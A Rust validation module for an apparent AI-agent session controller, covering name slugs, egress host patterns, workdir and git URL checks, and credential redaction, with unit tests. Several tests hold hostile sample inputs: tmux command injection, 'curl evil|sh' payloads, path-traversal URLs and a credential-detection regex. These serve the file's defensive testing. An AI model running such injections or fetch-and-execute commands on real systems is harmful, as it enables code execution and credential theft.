//! The shapes of what users write, below the API types: names, work items, ids, URLs. Each rule is the one the CRD
//! schema (or the API server itself) applies, so local mode, which has no API server, refuses the same objects
//! with the same words; and the slugs that turn outside text (repository names, delivery ids) into names.

use std::sync::LazyLock;

use regex::Regex;
use sha2::Digest;

use super::WorkSessionSpec;

/// The value of [`super::NODE_LABEL`] for `node`: its [`dns_label`] (a node name may be longer than a label value).
/// Two nodes whose names differ only in punctuation share a value; each agent still reconciles only its own node's
/// sessions (its field selector names the node exactly).
pub fn node_label_value(node: &str) -> String {
    dns_label(node)
}

/// `raw` folded into a DNS label: lowercase letters, digits and `-`, at most 63 characters (a longer one keeps its
/// first 54 and a hash of the whole). It loses information (`a.b` and `a-b` fold to one label): use it only where
/// two values sharing a label is harmless, as in a label value that only narrows a watch. Names that must stay
/// distinct are [`slug`]s.
pub fn dns_label(raw: &str) -> String {
    let folded = fold(raw);
    if folded.len() <= 63 {
        return folded;
    }
    format!("{}-{}", folded[..54].trim_end_matches('-'), short_hash(raw))
}

/// `raw` as a DNS label that no other `raw` shares: `raw` itself when it is one already, else its folding (see
/// [`dns_label`]) followed by `-` and the first 8 hex digits of the SHA-256 of `raw`'s UTF-8 bytes. So
/// `octo/my.repo#1`, `octo/my-repo#1` and `octo-my/repo#1`, which fold alike, are three work items. Stable across
/// releases: a work item's slug names its WorkSession, so changing this rule would start new conversations.
pub fn slug(raw: &str) -> String {
    let folded = fold(raw);
    if folded == raw && is_dns_label(raw) {
        return folded;
    }
    let head = &folded[..folded.len().min(54)];
    match head.trim_end_matches('-') {
        "" => format!("h{}", short_hash(raw)),
        head => format!("{head}-{}", short_hash(raw)),
    }
}

/// The [`slug`] of `rendered`, a template filled with `parts`, such that two different lists of parts never share it.
/// Parts joined by dashes meet ambiguously once a part holds a dash itself (`octo-org/hello` and `octo/org-hello` both
/// render `octo-org-hello`), so then the label is `rendered`'s folding followed by `-` and a hash of the parts;
/// otherwise it is `slug(rendered)`.
pub fn slug_of_parts(rendered: &str, parts: &[&str]) -> String {
    if !parts.iter().any(|p| p.contains('-')) {
        return slug(rendered);
    }
    let folded = fold(rendered);
    let hash = short_hash(&parts.join("\n"));
    match folded[..folded.len().min(54)].trim_end_matches('-') {
        "" => format!("h{hash}"),
        head => format!("{head}-{hash}"),
    }
}

/// The key of the label ([`super::LINKED`]) linking a WorkSession to pull request `number` of `repository`
/// (`owner/name`): `worksession.dev/pr-` and a hash that no other pull request shares, the same on every bridge. One key
/// per pull request, so a delivery about one never moves another's link.
pub fn pull_request_label(repository: &str, number: u64) -> String {
    let digest = sha2::Sha256::digest(format!("{repository}#{number}").to_ascii_lowercase().as_bytes());
    format!("worksession.dev/pr-{}", &hex::encode(digest)[..40])
}

/// The value of [`super::REPOSITORY_LABEL`] for `repository` (`owner/name`, in any case): a hash.
pub fn repository_label(repository: &str) -> String {
    let digest = sha2::Sha256::digest(repository.to_ascii_lowercase().as_bytes());
    format!("r-{}", &hex::encode(digest)[..40])
}

/// A UID for an object that the API server did not make (local mode): from its identity and its creation, so an object
/// made again under a used name is another object. Letters, digits and `-` only.
pub fn made_uid(namespace: &str, name: &str, created: i128) -> String {
    let digest = sha2::Sha256::digest(format!("{namespace}/{name}@{created}").as_bytes());
    format!("local-{}", &hex::encode(digest)[..32])
}

fn fold(raw: &str) -> String {
    let s: String = raw.to_ascii_lowercase().chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
    s.trim_matches('-').to_string()
}

fn short_hash(raw: &str) -> String {
    hex::encode(sha2::Sha256::digest(raw.as_bytes()))[..8].to_string()
}

/// The shape of a harness session id: a leading alphanumeric, so an id can never be taken as a flag.
pub const SESSION_ID_PATTERN: &str = "^[A-Za-z0-9][A-Za-z0-9._-]{0,127}$";
/// The shape of a work item: a DNS label.
pub const WORK_ITEM_PATTERN: &str = "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$";
/// The shape of a DNS-1123 subdomain (the names of most Kubernetes objects, WorkEvents among them): dot-separated
/// labels, at most 253 characters.
pub const DNS_SUBDOMAIN_PATTERN: &str = r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$";

/// The shape of a host a room may reach through the egress proxy (`spec.egress.hosts[]`, the agent config's
/// `rooms.egress.hosts`): a lowercase name or IPv4 address, `*.` before a name for any name below it, `:port` (1 to
/// 65535) after; port 443 when none is given.
pub const EGRESS_HOST_PATTERN: &str = r"^(\*\.)?[a-z0-9][-a-z0-9]*(\.[a-z0-9][-a-z0-9]*)*(:([1-9][0-9]{0,3}|[1-5][0-9]{4}|6[0-4][0-9]{3}|65[0-4][0-9]{2}|655[0-2][0-9]|6553[0-5]))?$";
/// The longest egress host: `*.`, a name of 253, `:65535`.
pub const EGRESS_HOST_MAX: usize = 261;
/// The shape of a cost budget: US dollars as a decimal, at most six places after the point.
pub const BUDGET_COST_PATTERN: &str = r"^[0-9]{1,9}(\.[0-9]{1,6})?$";

/// The most hosts a session may list.
pub const EGRESS_HOSTS_MAX: usize = 64;

static BUDGET_COST: LazyLock<Regex> = LazyLock::new(|| Regex::new(BUDGET_COST_PATTERN).unwrap());
static SESSION_ID: LazyLock<Regex> = LazyLock::new(|| Regex::new(SESSION_ID_PATTERN).unwrap());
static EGRESS_HOST: LazyLock<Regex> = LazyLock::new(|| Regex::new(EGRESS_HOST_PATTERN).unwrap());
static DNS_LABEL: LazyLock<Regex> = LazyLock::new(|| Regex::new(WORK_ITEM_PATTERN).unwrap());
static DNS_SUBDOMAIN: LazyLock<Regex> = LazyLock::new(|| Regex::new(DNS_SUBDOMAIN_PATTERN).unwrap());
static HARNESS_NAME: LazyLock<Regex> = LazyLock::new(|| Regex::new(HARNESS_PATTERN).unwrap());

/// Whether `entry` has the shape of an egress host ([`EGRESS_HOST_PATTERN`]).
pub fn is_egress_host(entry: &str) -> bool {
    entry.len() <= EGRESS_HOST_MAX && EGRESS_HOST.is_match(entry)
}

/// What is wrong with a session's list of egress hosts (`spec.egress.hosts`, a route's `egress.hosts`), if anything.
pub fn egress_hosts_problem(hosts: &[String]) -> Option<String> {
    if hosts.len() > EGRESS_HOSTS_MAX {
        return Some(format!("must hold at most {EGRESS_HOSTS_MAX} hosts"));
    }
    let bad = hosts.iter().find(|h| !is_egress_host(h))?;
    Some(format!("{bad:?} is not a host, host:port or *.domain (lowercase)"))
}

/// What is wrong with a budget (`spec.budget`, a route's `budget`), if anything: the field and the problem.
pub fn budget_problem(budget: &super::BudgetSpec) -> Option<(&'static str, String)> {
    if budget.tokens == Some(0) {
        return Some(("budget.tokens", "must be at least 1".into()));
    }
    if budget.cost.as_ref().is_some_and(|c| !BUDGET_COST.is_match(c)) {
        return Some(("budget.cost", "must be US dollars as a decimal, such as \"5\" or \"12.50\"".into()));
    }
    None
}

/// Whether `id` has the shape of a harness session id (checked before an id becomes argv).
pub fn is_valid_session_id(id: &str) -> bool {
    SESSION_ID.is_match(id)
}

/// Whether `s` is a DNS-1123 label (at most 63 characters).
pub fn is_dns_label(s: &str) -> bool {
    s.len() <= 63 && DNS_LABEL.is_match(s)
}

/// Whether `s` is a DNS-1123 subdomain (at most 253 characters).
pub fn is_dns_subdomain(s: &str) -> bool {
    s.len() <= 253 && DNS_SUBDOMAIN.is_match(s)
}

/// The kind of object a name is checked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A WorkSession: its name is a DNS label (it is the value of [`super::SESSION_LABEL`] on its events, and part
    /// of its tmux session's name).
    WorkSession,
    /// A WorkEvent: a DNS subdomain, as the API server requires of custom resources.
    WorkEvent,
    /// A WorkBudget: a DNS subdomain.
    WorkBudget,
}

/// The root-level CEL rule of the WorkSession CRD that keeps its names DNS labels (the API server checks only that a
/// custom resource's name is a DNS subdomain).
pub const WORK_SESSION_NAME_RULE: &str =
    "self.metadata.name.size() <= 63 && self.metadata.name.matches('^[a-z0-9]([-a-z0-9]*[a-z0-9])?$')";

/// Checks `metadata.name` (and a namespace, where given) of an object of `kind` as the API server does, with the
/// API server's words; for local mode, where no API server checks them.
pub fn validate_name(kind: Kind, name: &str, namespace: Option<&str>) -> Result<(), String> {
    if let Some(ns) = namespace.filter(|ns| !is_dns_label(ns)) {
        return Err(format!(
            "metadata.namespace: {ns:?} must be a DNS label (lowercase letters, digits, '-'; at most 63)"
        ));
    }
    match kind {
        Kind::WorkSession if !is_dns_label(name) => {
            Err(format!("metadata.name: {name:?} must be a DNS label (lowercase letters, digits, '-'; at most 63)"))
        }
        Kind::WorkEvent | Kind::WorkBudget if !is_dns_subdomain(name) => Err(format!(
            "metadata.name: {name:?} must be a DNS subdomain (lowercase letters, digits, '-' and '.'; at most 253)"
        )),
        _ => Ok(()),
    }
}

/// A `.` or `..` segment of a path.
const WORKDIR_DOT_SEGMENT_PATTERN: &str = "(^|/)[.][.]?(/|$)";
/// The CEL rule of `spec.workdir` refusing them (see [`WORKDIR_DOT_SEGMENT_PATTERN`]).
pub const WORKDIR_DOT_SEGMENT_RULE: &str = "!self.matches('(^|/)[.][.]?(/|$)')";
/// Whether `value` can go into a tmux format or command string (or a hook's shell command) as it is: letters, digits,
/// `-`, `/`, `.`, `_` (no space, quote, `;`, `#`, `$`, `~` or brace that a parser would act on).
pub fn is_tag(value: &str) -> bool {
    value.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'/' || b == b'.' || b == b'_')
}

static URL_USER_INFO: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)([a-z][a-z0-9+.-]*://)[^/@\s]*@").unwrap());

/// `text` without the user info of any URL in it (`https://user:token@host` becomes `https://host`): what status,
/// Events and logs may show of a repository URL or of git's output.
pub fn redact(text: &str) -> String {
    URL_USER_INFO.replace_all(text, "$1").into_owned()
}

/// Words shaped like the credentials a harness is given or may meet: GitHub's tokens, Anthropic's and OpenAI's keys,
/// Slack's, AWS's access keys, bearer tokens, a URL's user and password, whole private key blocks. Each is made of a
/// token's own characters only: what is replaced never holds a shell's syntax.
static TOKEN_SHAPED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|sk-[A-Za-z0-9_-]{16,}|xox[abprs]-[A-Za-z0-9-]{10,}",
        r"|AKIA[0-9A-Z]{16}|(?i:bearer)\s+[A-Za-z0-9._~+/=-]{16,}",
        r"|[A-Za-z0-9._~%+-]+:[A-Za-z0-9._~%+-]+@",
        r"|-----BEGIN [A-Z ]{0,40}PRIVATE KEY-----[A-Za-z0-9+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY-----",
    ))
    .unwrap()
});

/// `text` with each word shaped like a credential ([`TOKEN_SHAPED`]) replaced by `[redacted]` (a URL's `user:password@`
/// by `[redacted]@`): what a permission request shows of what a harness wants to run. Only a token's own characters
/// are ever replaced, so a person reads every operator of a command.
pub fn redact_secrets(text: &str) -> String {
    TOKEN_SHAPED
        .replace_all(text, |c: &regex::Captures| if c[0].ends_with('@') { "[redacted]@" } else { "[redacted]" })
        .into_owned()
}

static WORKDIR_DOT_SEGMENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(WORKDIR_DOT_SEGMENT_PATTERN).unwrap());

/// The shape of `spec.workspace.url` and `ref`: no leading `-` (never taken as a flag by git), no whitespace or
/// control characters.
pub const GIT_WORD_PATTERN: &str = r"^[^-\s][^\s]*$";
static GIT_WORD: LazyLock<Regex> = LazyLock::new(|| Regex::new(GIT_WORD_PATTERN).unwrap());

/// The CEL rule of `spec.workspace.url`: no user info in a URL (`https://<token>@host/...` would put a credential in
/// the spec, status, argv and the clone's config), except a user name without a password in an `ssh://` URL.
/// `git@host:path` (scp-like, no scheme) names a user only.
pub const URL_USER_INFO_RULE: &str =
    "!self.matches('^[A-Za-z][A-Za-z0-9+.-]*://[^/@]*@') || self.matches('^ssh://[A-Za-z0-9._-]+@[^/@]*(/.*)?$')";
/// A URL with user info (what [`URL_USER_INFO_RULE`] refuses)...
const USER_INFO_PATTERN: &str = "^[A-Za-z][A-Za-z0-9+.-]*://[^/@]*@";
/// ...unless it is an `ssh://` URL naming only a user.
const SSH_USER_PATTERN: &str = "^ssh://[A-Za-z0-9._-]+@[^/@]*(/.*)?$";
static USER_INFO: LazyLock<Regex> = LazyLock::new(|| Regex::new(USER_INFO_PATTERN).unwrap());
static SSH_USER: LazyLock<Regex> = LazyLock::new(|| Regex::new(SSH_USER_PATTERN).unwrap());

/// Whether a workspace URL carries user info the CRD refuses (see [`URL_USER_INFO_RULE`]).
pub fn url_has_user_info(url: &str) -> bool {
    USER_INFO.is_match(url) && !SSH_USER.is_match(url)
}

/// A URL path segment `.` or `..` (also percent-encoded): `https://host/octo/../other/x.git` would match a namespace's
/// glob `https://host/octo/*` and fetch another repository once the client resolves it.
const DOT_SEGMENT_PATTERN: &str = "(^|[/:])([.]|%2[eE])([.]|%2[eE])?([/?#]|$)";
/// The CEL rule of `spec.workspace.url` refusing dot segments (see [`DOT_SEGMENT_PATTERN`]).
pub const URL_DOT_SEGMENT_RULE: &str = "!self.matches('(^|[/:])([.]|%2[eE])([.]|%2[eE])?([/?#]|$)')";
static DOT_SEGMENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(DOT_SEGMENT_PATTERN).unwrap());

/// Whether a workspace URL holds a `.` or `..` path segment the CRD refuses.
pub fn url_has_dot_segment(url: &str) -> bool {
    DOT_SEGMENT.is_match(url)
}

/// The shape of a harness profile name.
pub const HARNESS_PATTERN: &str = "^[A-Za-z0-9][A-Za-z0-9._-]*$";

/// A spec field that breaks what the CRD schema says (for objects that did not pass a schema: local mode).
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[error("spec.{field}: {problem}")]
pub struct SpecError {
    /// The field, for example `workItem`.
    pub field: &'static str,
    /// What is wrong with it.
    pub problem: String,
}

/// Checks a WorkSession spec the way its CRD schema does, except `harnessSessionId`: a malformed id is not an
/// invalid session but a row of the resume decision table (a fresh conversation, reported as `InvalidSessionId`).
pub fn validate_spec(spec: &WorkSessionSpec) -> Result<(), SpecError> {
    let err = |field, problem: String| Err(SpecError { field, problem });
    if !is_dns_label(&spec.work_item) {
        return err(
            "workItem",
            format!("{:?} must be a DNS label (lowercase letters, digits, '-'; at most 63)", spec.work_item),
        );
    }
    if spec.node_name.as_ref().is_some_and(|n| n.is_empty() || n.len() > 253) {
        return err("nodeName", "must be 1 to 253 characters".into());
    }
    if spec.harness.len() > 63 || !HARNESS_NAME.is_match(&spec.harness) {
        return err("harness", format!("{:?} must match {HARNESS_PATTERN} (at most 63)", spec.harness));
    }
    if !spec.workdir.starts_with('/') || spec.workdir.len() > 4096 || spec.workdir.contains('\0') {
        return err("workdir", format!("{:?} must be an absolute path", spec.workdir));
    }
    if spec.workdir.contains('#') {
        // tmux expands formats, `#(command)` included, in a new session's start directory.
        return err("workdir", format!("{:?} must not contain '#' (tmux would expand it)", spec.workdir));
    }
    if WORKDIR_DOT_SEGMENT.is_match(&spec.workdir) {
        // `/srv/work/x/..` names what the kernel resolves, not what a prefix check sees.
        return err("workdir", format!("{:?} must not hold a '.' or '..' segment", spec.workdir));
    }
    if let Some(w) = &spec.workspace {
        if w.url.len() > 2048 || !GIT_WORD.is_match(&w.url) {
            return err("workspace.url", "must not start with '-' or contain whitespace (at most 2048)".into());
        }
        if url_has_dot_segment(&w.url) {
            return err("workspace.url", "must not hold a '.' or '..' path segment".into());
        }
        if url_has_user_info(&w.url) {
            return err(
                "workspace.url",
                "must not carry user info (a token or password): the agent reads credentials from files".into(),
            );
        }
        if w.r#ref.as_ref().is_some_and(|r| r.len() > 255 || !GIT_WORD.is_match(r)) {
            return err("workspace.ref", "must not start with '-' or contain whitespace (at most 255)".into());
        }
    }
    if let Some(r) = &spec.resume {
        if r.probe_seconds.is_some_and(|s| s > 300) {
            return err("resume.probeSeconds", "must be between 0 and 300".into());
        }
        if r.settle_seconds.is_some_and(|s| s > 3600) {
            return err("resume.settleSeconds", "must be between 0 and 3600".into());
        }
    }
    if let Some((field, problem)) = spec.budget.as_ref().and_then(budget_problem) {
        return err(field, problem);
    }
    if spec.handoff.as_ref().and_then(|h| h.max_characters).is_some_and(|n| !(200..=8000).contains(&n)) {
        return err("handoff.maxCharacters", "must be between 200 and 8000".into());
    }
    if let Some(problem) = spec.egress.as_ref().and_then(|e| egress_hosts_problem(&e.hosts)) {
        return err("egress.hosts", problem);
    }
    if let Some((field, problem)) = spec.approval.as_ref().and_then(super::ApprovalSpec::problem) {
        let field = match field {
            "waitSeconds" => "approval.waitSeconds",
            "rules" => "approval.rules",
            _ => "approval.rules.match",
        };
        return err(field, problem);
    }
    Ok(())
}

/// The check the CRD makes of an update (`x-kubernetes-validations` with `oldSelf`), for local mode: a field that
/// may not change, changed. `None`: the update is allowed.
pub fn immutable_change(old: &WorkSessionSpec, new: &WorkSessionSpec) -> Option<SpecError> {
    let changed = |field: &'static str, was: &str, now: &str| SpecError {
        field,
        problem: format!("is immutable: was {was:?}, now {now:?}; the change is ignored"),
    };
    if old.work_item != new.work_item {
        return Some(changed("workItem", &old.work_item, &new.work_item));
    }
    if old.node_name.is_some() && new.node_name.is_none() {
        return Some(SpecError {
            field: "nodeName",
            problem: "cannot be unset once placed; the change is ignored".into(),
        });
    }
    if old.workdir != new.workdir {
        return Some(changed("workdir", &old.workdir, &new.workdir));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn session_id_shape_is_the_seeds() {
        for ok in ["a", "0b3c", "550e8400-e29b-41d4-a716-446655440000", "A.b_c-d", &"x".repeat(128)] {
            assert!(is_valid_session_id(ok), "{ok}");
        }
        for bad in ["", "-x", "--dangerously-skip-permissions", ".x", "_x", "a b", "a;b", "a\n", &"x".repeat(129)] {
            assert!(!is_valid_session_id(bad), "{bad:?}");
        }
    }

    #[test]
    fn an_egress_host_is_a_lowercase_name_or_address_with_a_port() {
        for ok in ["api.anthropic.com", "github.com:22", "*.githubusercontent.com", "10.0.0.1:8080", "a:65535", "x-1"] {
            assert!(is_egress_host(ok), "{ok}");
        }
        let long = format!("{}.com", "a".repeat(EGRESS_HOST_MAX));
        for bad in ["", "API.example.com", "-a.com", "a..com", "*", "*.", "a.*.com", "a:0", "a:65536", "a:", "::1"] {
            assert!(!is_egress_host(bad), "{bad:?}");
        }
        assert!(!is_egress_host(&long) && !is_egress_host("a b") && !is_egress_host("a.com\n"));
        // Local mode refuses such a spec as the CRD does.
        let spec = |hosts: Vec<&str>| WorkSessionSpec {
            work_item: "w".into(),
            harness: "claude".into(),
            workdir: "/w".into(),
            egress: Some(crate::api::EgressSpec { hosts: hosts.into_iter().map(String::from).collect() }),
            ..Default::default()
        };
        assert_eq!(validate_spec(&spec(vec!["API.example.com"])).unwrap_err().field, "egress.hosts");
        assert_eq!(validate_spec(&spec(vec!["a.com"; EGRESS_HOSTS_MAX + 1])).unwrap_err().field, "egress.hosts");
        assert!(validate_spec(&spec(vec!["a.com"; EGRESS_HOSTS_MAX])).is_ok());
    }

    #[test]
    fn a_workdir_holding_a_tmux_format_is_refused() {
        let spec = |workdir: &str| WorkSessionSpec {
            work_item: "w".into(),
            node_name: Some("n".into()),
            harness: "claude".into(),
            workdir: workdir.into(),
            ..Default::default()
        };
        let e = validate_spec(&spec("/tmp/x/#(touch /tmp/pwned)")).unwrap_err();
        assert_eq!(e.field, "workdir");
        assert!(validate_spec(&spec("/srv/work/repo-1.x")).is_ok());
    }

    /// Slugs that lost information carry a hash of the original; those that lost nothing are the
    /// original; both are DNS labels.
    #[test]
    fn slugs_that_lost_information_carry_a_hash() {
        let items = ["octo/my.repo#1", "octo/my-repo#1", "octo-my/repo#1", "Octo/My-Repo#1"];
        let slugs: Vec<String> = items.iter().map(|raw| slug(raw)).collect();
        for (i, a) in slugs.iter().enumerate() {
            assert!(is_dns_label(a), "{a}");
            assert!(a.starts_with("octo-my-repo-1-"), "{a}: readable");
            for b in &slugs[i + 1..] {
                assert_ne!(a, b, "two work items, two sessions");
            }
        }
        // Stable across releases: the first 8 hex digits of SHA-256 of the original.
        assert_eq!(slug("octo/my.repo#1"), format!("octo-my-repo-1-{}", &short_hash("octo/my.repo#1")));
        assert_eq!(short_hash("octo/my.repo#1").len(), 8);
        assert_eq!(slug("repo-12"), "repo-12", "a DNS label is its own slug");
        assert_ne!(slug("--x--"), "x");
        assert!(slug("###").starts_with('h') && is_dns_label(&slug("###")));
        let long = |tail: &str| slug(&format!("{}-{tail}", "a-very-long-organisation-name/".repeat(3)));
        let (one, two) = (long("repo-1"), long("repo-2"));
        assert!(is_dns_label(&one) && is_dns_label(&two), "{one} {two}");
        assert_ne!(one, two);
        assert_eq!(slug(&"a".repeat(80)).len(), 63);
        assert_eq!(dns_label("Node-A.example.com"), "node-a-example-com", "labels of node names stay as before");
    }

    #[test]
    fn names_are_checked_as_the_api_server_does() {
        assert!(validate_name(Kind::WorkEvent, "gh-72d3162e.x", None).is_ok());
        assert!(validate_name(Kind::WorkSession, "repo-12", Some("agents")).is_ok());
        for bad in ["x ; run-shell 'touch /tmp/p'", "initialPrompt", "a b", "-a", "a.", "", &"a".repeat(254)] {
            let e = validate_name(Kind::WorkEvent, bad, None).unwrap_err();
            assert!(e.starts_with("metadata.name:"), "{e}");
        }
        assert!(validate_name(Kind::WorkSession, "a.b", None).is_err(), "a session's name is a label");
        assert!(validate_name(Kind::WorkSession, &"a".repeat(64), None).is_err());
        assert!(validate_name(Kind::WorkEvent, "e", Some("Team A")).unwrap_err().starts_with("metadata.namespace"));
    }

    #[test]
    fn credential_shaped_words_are_redacted_from_what_a_request_shows() {
        let token = "ghp_0123456789abcdefghijABCDEFGHIJ";
        let said = redact_secrets(&format!(
            "curl -H 'Authorization: Bearer abcdefghijklmnop1234' https://x:pw@h/ && gh auth login --with-token {token} \
             ANTHROPIC_API_KEY=sk-ant-api03-abcdefghijklmnop AKIAABCDEFGHIJKLMNOP"
        ));
        for secret in [token, "abcdefghijklmnop1234", "x:pw", "sk-ant", "AKIAABCDEFGHIJKLMNOP"] {
            assert!(!said.contains(secret), "{secret} in {said}");
        }
        assert!(said.contains("gh auth login --with-token [redacted]"), "{said}");
        assert!(said.contains("https://[redacted]@h/"), "{said}");
        // Never a shell's syntax: what hides in a URL's user part, or an unended key block, is shown.
        let hidden = "git status x://$(curl${IFS}evil|sh)@ -----BEGIN A PRIVATE KEY-----;curl evil|sh";
        assert_eq!(redact_secrets(hidden), hidden);
        let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----";
        assert_eq!(redact_secrets(&format!("echo '{key}' > k")), "echo '[redacted]' > k");
        assert_eq!(redact_secrets("git status"), "git status");
    }

    #[test]
    fn workspace_urls_carry_no_user_info_but_an_ssh_user() {
        for bad in [
            "https://ghp_token@github.com/o/r.git",
            "https://user:pass@github.com/o/r.git",
            "http://x@h/r",
            "ssh://git:secret@h/r",
            "file://me@localhost/srv/r",
        ] {
            assert!(url_has_user_info(bad), "{bad}");
        }
        for ok in
            ["https://github.com/o/r.git", "ssh://git@github.com/o/r.git", "git@github.com:o/r.git", "file:///srv/r"]
        {
            assert!(!url_has_user_info(ok), "{ok}");
            assert!(!url_has_dot_segment(ok), "{ok}");
        }
        for bad in [
            "https://github.com/octo/../other/secret.git",
            "https://github.com/octo/%2e%2E/other/x",
            "https://github.com/octo/./x",
            "git@github.com:../other/x.git",
            "https://github.com/octo/..",
        ] {
            assert!(url_has_dot_segment(bad), "{bad}");
        }
        assert!(!url_has_dot_segment("https://github.com/octo/.github.git"), "a name starting with a dot is fine");
        let spec = WorkSessionSpec {
            work_item: "w".into(),
            node_name: Some("n".into()),
            harness: "claude".into(),
            workdir: "/w".into(),
            workspace: Some(crate::api::WorkspaceSpec { url: "https://tok@github.com/o/r".into(), r#ref: None }),
            ..Default::default()
        };
        assert_eq!(validate_spec(&spec).unwrap_err().field, "workspace.url");
    }

    /// The CEL rules the CRD carries are the checks local mode makes, pattern for pattern.
    #[test]
    fn the_cel_rules_say_what_the_code_checks() {
        assert!(WORK_SESSION_NAME_RULE.contains(&format!("'{WORK_ITEM_PATTERN}'")), "{WORK_SESSION_NAME_RULE}");
        assert!(URL_USER_INFO_RULE.contains(&format!("'{USER_INFO_PATTERN}'")), "{URL_USER_INFO_RULE}");
        assert!(URL_USER_INFO_RULE.contains(&format!("'{SSH_USER_PATTERN}'")), "{URL_USER_INFO_RULE}");
        assert!(URL_DOT_SEGMENT_RULE.contains(&format!("'{DOT_SEGMENT_PATTERN}'")), "{URL_DOT_SEGMENT_RULE}");
        assert!(WORKDIR_DOT_SEGMENT_RULE.contains(&format!("'{WORKDIR_DOT_SEGMENT_PATTERN}'")));
    }

    #[test]
    fn work_item_and_node_are_immutable() {
        let old = WorkSessionSpec { work_item: "a".into(), node_name: Some("n".into()), ..Default::default() };
        assert_eq!(immutable_change(&old, &old.clone()), None);
        let moved = WorkSessionSpec { work_item: "b".into(), ..old.clone() };
        let e = immutable_change(&old, &moved).unwrap();
        assert_eq!(e.field, "workItem");
        assert!(e.to_string().contains("immutable"), "{e}");
        let elsewhere = WorkSessionSpec { workdir: "/elsewhere".into(), ..old.clone() };
        assert_eq!(immutable_change(&old, &elsewhere).unwrap().field, "workdir");
    }

    #[test]
    fn a_handoff_budget_is_bounded_as_the_crd_bounds_it() {
        let with = |n| WorkSessionSpec {
            handoff: Some(crate::api::HandoffSpec { enabled: None, max_characters: Some(n) }),
            ..serde_json::from_value(serde_json::json!({"workItem": "a", "workdir": "/w", "harness": "claude"}))
                .unwrap()
        };
        for (n, ok) in [(199, false), (200, true), (8000, true), (8001, false)] {
            let result = validate_spec(&with(n));
            assert_eq!(result.is_ok(), ok, "{n}: {result:?}");
        }
        assert!(validate_spec(&with(100)).unwrap_err().to_string().contains("handoff.maxCharacters"));
    }

    #[test]
    fn an_approval_policy_is_checked_as_the_crd_checks_it() {
        let mut spec = WorkSessionSpec {
            work_item: "a".into(),
            harness: "claude".into(),
            workdir: "/w".into(),
            ..Default::default()
        };
        spec.approval = Some(crate::api::ApprovalSpec { wait_seconds: Some(5), rules: vec![] });
        assert_eq!(validate_spec(&spec).unwrap_err().field, "approval.waitSeconds");
    }

    #[test]
    fn a_workdir_with_a_dot_segment_is_refused() {
        let spec = |workdir: &str| WorkSessionSpec {
            work_item: "a".into(),
            node_name: Some("n".into()),
            harness: "claude".into(),
            workdir: workdir.into(),
            ..Default::default()
        };
        for bad in ["/srv/work/x/..", "/srv/work/../run", "/srv/work/./x", "/srv/work/link/."] {
            assert_eq!(validate_spec(&spec(bad)).unwrap_err().field, "workdir", "{bad}");
        }
        for good in ["/srv/work/x..y", "/srv/work/.hidden", "/srv/work/x/"] {
            assert!(validate_spec(&spec(good)).is_ok(), "{good}");
        }
    }
}
